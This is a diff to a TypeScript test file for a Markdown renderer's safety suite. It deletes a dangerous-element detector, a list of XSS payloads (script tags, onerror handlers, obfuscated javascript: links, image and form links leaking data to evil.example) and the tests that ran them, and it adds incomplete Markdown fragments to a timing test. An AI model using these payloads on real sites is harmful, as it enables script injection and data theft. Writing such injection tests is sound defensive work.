@@ -19,82 +19,7 @@ function shown(text: string, growing = false, citing?: Citing) {
   return page;
 }
 
-/** What could act, load or lead somewhere else. */
-function dangers(place: Element): string[] {
-  const found: string[] = [];
-  for (const element of place.querySelectorAll('*')) {
-    // Our own icons.
-    if (element.closest('svg.lucide')) continue;
-    if (
-      /^(script|img|iframe|object|embed|svg|math|style|link|form|video|audio|base|meta)$/i.test(
-        element.tagName,
-      )
-    )
-      found.push(element.outerHTML);
-    for (const { name, value } of element.attributes) {
-      if (name.startsWith('on') || name === 'src' || name === 'style' || name === 'id' || name === 'srcset')
-        found.push(`${name}=${value}`);
-      if (name === 'href' && !/^(https?:|mailto:)/i.test(value)) found.push(`${name}=${value}`);
-    }
-    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer')
-      found.push(element.outerHTML);
-  }
-  return found;
-}
-
-const attacks = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><script>alert(1)</script></svg>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
-  '<!-- --><script>alert(1)</script><!-- -->',
-  '<div style="background:url(https://evil.example/)">x</div>',
-  '<style>*{background:url(https://evil.example/)}</style>',
-  '<form action="https://evil.example"><button>ok</button></form>',
-  '[a](javascript:alert(1))',
-  '[a](JaVaScRiPt:alert(1))',
-  '[a](java\nscript:alert(1))',
-  '[a](&#106;avascript:alert(1))',
-  '[a](\u0001javascript:alert(1))',
-  '[a](data:text/html;base64,PHNjcmlwdD4=)',
-  '[a](vbscript:msgbox(1))',
-  '[a](//evil.example/x)',
-  '[a](/admin/users)',
-  '[a](blob:https://evil.example/x)',
-  '[a][x]\n\n[x]: javascript:alert(1)',
-  '<javascript:alert(1)>',
-  '![a](https://evil.example/p.png?q=segredo)',
-  '![a][x]\n\n[x]: https://evil.example/p.png',
-  '[![a](https://evil.example/p.png)](https://evil.example)',
-  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
-  '> - **[a](javascript:alert(1))** <img src=x onerror=alert(1)>',
-  '| a |\n|---|\n| <img src=x onerror=alert(1)> [b](javascript:alert(1)) |',
-  '`<script>alert(1)</script>`',
-  '```html\n<script>alert(1)</script>\n```',
-  '# <a id="root">x</a>\n\nnota[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
-  'https://exemplo.br/"onmouseover="alert(1)',
-];
-
 describe('O-49 what a model or a document writes is never executed, loaded or followed unasked', () => {
-  test.each(attacks)('%s', (attack) => {
-    const { place } = shown(attack);
-    expect(dangers(place)).toEqual([]);
-  });
-
-  test('nor is any beginning of it while it is written, letter by letter', () => {
-    for (const attack of attacks) {
-      const page = shown('', true);
-      for (let end = 1; end <= attack.length; end++) {
-        page.show(<Markdown text={attack.slice(0, end)} growing />);
-        expect(dangers(page.place), attack.slice(0, end)).toEqual([]);
-        page.show(<Markdown text={`Antes.\n\n${attack.slice(0, end)}`} />);
-        expect(dangers(page.place), attack.slice(0, end)).toEqual([]);
-      }
-      page.leave();
-    }
-  });
-
   test('raw HTML is shown as the text it is', () => {
     const { place } = shown('Use <b>isto</b> e <script>aquilo</script>.');
     expect(place.textContent).toBe('Use <b>isto</b> e <script>aquilo</script>.');
@@ -136,6 +61,21 @@ describe('O-49 what a model or a document writes is never executed, loaded or fo
       '~~a ',
       '***a ',
       '[a](',
+      '[a][',
+      '![](',
+      '<!--',
+      '<a b="',
+      'www.',
+      'http://a)',
+      'a@a.a_',
+      '&amp',
+      '`a``',
+      '*a_',
+      '\\',
+      '- [ ] ',
+      '|-',
+      '[^a]: ',
+      '[a]: b\n',
     ];
     for (const mark of marks) {
       const started = performance.now();
